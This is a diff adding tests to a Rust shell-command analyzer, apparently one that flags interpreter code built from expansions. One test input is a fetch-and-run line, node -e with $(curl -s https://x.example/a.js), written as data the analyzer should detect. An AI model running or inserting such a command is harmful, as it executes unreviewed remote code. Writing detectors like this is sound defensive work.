@@ -256,6 +256,28 @@ fn computed_command_names_are_facts() {
             "{src:?}: {f:?}"
         );
     }
+    // Interpreter code that is itself an expansion.
+    for (src, from) in [
+        ("python3 -c \"$CODE\"", "$CODE"),
+        (
+            "node -e \"$(curl -s https://x.example/a.js)\"",
+            "$(curl -s https://x.example/a.js)",
+        ),
+        ("perl -e \"`cat /tmp/p`\"", "`cat /tmp/p`"),
+    ] {
+        let f = facts(src, FactKind::ComputedCommand);
+        assert!(
+            f.iter()
+                .any(|(_, d)| d.contains(&format!("comes from `{from}`"))),
+            "{src:?}: {f:?}"
+        );
+    }
+    for src in [
+        "perl -e '$x = 1; print $x'",
+        "python3 -c \"print('$HOME')\"",
+    ] {
+        assert!(facts(src, FactKind::ComputedCommand).is_empty(), "{src:?}");
+    }
     // Known names: only a directory or an argument is computed.
     for src in [
         "\"$HOME/.local/bin/tool\" --version",
